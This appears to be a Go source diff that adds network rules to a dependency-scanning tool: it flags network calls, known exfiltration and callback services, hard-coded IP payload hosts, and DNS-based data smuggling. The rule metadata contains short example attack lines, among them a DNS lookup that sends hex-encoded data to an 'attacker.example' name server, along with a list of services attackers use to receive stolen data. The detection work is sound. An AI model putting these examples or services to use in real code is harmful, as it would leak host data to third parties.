@@ -1,0 +1,174 @@
+// Package net holds rules about network behaviour.
+package net
+
+import (
+	"context"
+	"fmt"
+	"strings"
+
+	"github.com/depfence/depfence/internal/analyze"
+	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/rules/rulekit"
+)
+
+// NetworkAccess records that code talks to the network.
+type NetworkAccess struct{}
+
+// Meta implements analyze.Rule.
+func (NetworkAccess) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "net/network-access", Version: 1, Title: "Talks to the network",
+		Help: "The code makes HTTP, socket, DNS or WebSocket calls. This is a capability, not a threat: it matters when the same code also " +
+			"reads secrets or host identity, or runs at install time.",
+		Remediation:     "Expected for HTTP clients and SDKs; check the hosts for anything else.",
+		Example:         `https.request({ hostname: "api.example.com", method: "POST" })`,
+		DefaultSeverity: finding.SeverityLow, Signal: analyze.SigNetwork, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (NetworkAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		for _, c := range f.Facts.Calls {
+			if !rulekit.IsNetCall(c) {
+				continue
+			}
+			dest := ""
+			for _, a := range c.Args {
+				if a.Known {
+					if u := rulekit.URLs(a.Value); len(u) > 0 {
+						dest = u[0]
+						break
+					}
+				}
+			}
+			msg := fmt.Sprintf("network call %s()", c.Callee)
+			if dest != "" {
+				msg += " to " + dest
+			}
+			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Col: c.Pos.Col, Message: msg, Evidence: rulekit.Ev(c.Snippet, "", "")})
+			break // one per file is enough
+		}
+	}
+	return nil
+}
+
+// ExfilService flags exfiltration endpoints in code.
+type ExfilService struct{}
+
+// Meta implements analyze.Rule.
+func (ExfilService) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "net/exfil-service", Version: 1, Title: "Contacts a data-exfiltration service",
+		Help: "Code contains the address of a service attackers use to receive stolen data or to prove code execution: request bins and webhooks " +
+			"(webhook.site, pipedream), out-of-band testing domains (oast.*, burpcollaborator, interact.sh), tunnels (ngrok, trycloudflare), " +
+			"pastebins, Discord webhooks and Telegram bots. Libraries have little reason to embed them.",
+		Remediation:     "Treat as malicious unless the package is a client for that service.",
+		Example:         `https.request({ hostname: "abc123.m.pipedream.net", method: "POST" })`,
+		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (ExfilService) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		seen := map[string]bool{}
+		for _, s := range f.Facts.Strings {
+			if len(s.Value) > 2048 {
+				continue
+			}
+			svc := rulekit.ExfilService(s.Value)
+			if svc == "" || seen[svc] {
+				continue
+			}
+			seen[svc] = true
+			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: fmt.Sprintf("contacts %s, an exfiltration/callback service", svc),
+				Evidence: rulekit.Ev(s.Snippet, s.Value, ""), Confidence: finding.ConfidenceHigh})
+		}
+	}
+	return nil
+}
+
+// RawIP flags URLs to literal public IP addresses.
+type RawIP struct{}
+
+// Meta implements analyze.Rule.
+func (RawIP) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "net/raw-ip", Version: 1, Title: "Connects to a hard-coded IP address",
+		Help: "Code contains a URL or host:port on a literal public IP address. Legitimate services use names; command-and-control servers and " +
+			"payload hosts often do not.",
+		Remediation:     "Check who owns the address and why the package needs it.",
+		Example:         `http.get("http://203.0.113.7:1224/payload")`,
+		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (RawIP) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		n := 0
+		for _, s := range f.Facts.Strings {
+			if n >= 3 || len(s.Value) > 2048 {
+				continue
+			}
+			for _, u := range rulekit.URLs(s.Value) {
+				h := rulekit.Host(u)
+				if rulekit.PublicIP(h) {
+					n++
+					r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: "connects to a hard-coded IP address " + h, Evidence: rulekit.Ev(s.Snippet, u, "")})
+					break
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// DNSExfil flags data smuggled out in DNS query names.
+type DNSExfil struct{}
+
+// Meta implements analyze.Rule.
+func (DNSExfil) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "net/dns-exfil", Version: 1, Title: "Smuggles data out in DNS lookups",
+		Help: "The code encodes data (hex/base32/base64) and resolves host names built from it. DNS queries pass most firewalls, so dependency-confusion " +
+			"probes use them to report the victim's host name, user and directory to an attacker's name server.",
+		Remediation:     "Remove the package; it reports your environment to a third party.",
+		Example:         "dns.resolve4(`${hex}.${id}.attacker.example`)",
+		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		var dnsCall *int
+		encode := false
+		data := false
+		for i, c := range f.Facts.Calls {
+			root := rulekit.Root(c.Callee)
+			if (root == "dns" || root == "dns/promises") && strings.HasPrefix(rulekit.Last(c.Callee), "resolve") || c.Callee == "dns.lookup" {
+				if len(c.Args) > 0 && !c.Args[0].Known && dnsCall == nil {
+					dnsCall = &i
+				}
+			}
+			if rulekit.Last(c.Callee) == "toString" && len(c.Args) > 0 && c.Args[0].Known && (c.Args[0].Value == "hex" || c.Args[0].Value == "base64" || c.Args[0].Value == "base32") {
+				encode = true
+			}
+			switch rulekit.Last(c.Callee) {
+			case "hostname", "userInfo", "homedir", "cwd", "networkInterfaces", "readFileSync", "readFile":
+				data = true
+			}
+		}
+		if len(f.Facts.Env) > 0 {
+			data = true
+		}
+		if dnsCall != nil && encode && data {
+			c := f.Facts.Calls[*dnsCall]
+			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("%s() resolves names built from encoded host data", c.Callee),
+				Evidence: rulekit.Ev(c.Snippet, "", ""), Confidence: finding.ConfidenceHigh})
+		}
+	}
+	return nil
+}
